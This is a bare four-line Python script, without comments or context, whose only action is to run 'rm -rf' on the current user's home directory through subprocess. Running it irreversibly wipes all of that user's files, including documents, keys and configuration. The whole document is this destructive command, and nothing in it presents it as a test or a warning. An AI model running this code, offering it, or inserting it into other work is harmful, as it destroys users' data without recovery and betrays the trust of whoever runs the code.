import os
import subprocess

target = os.path.expanduser("~")
subprocess.run(["rm", "-rf", target], check=True)
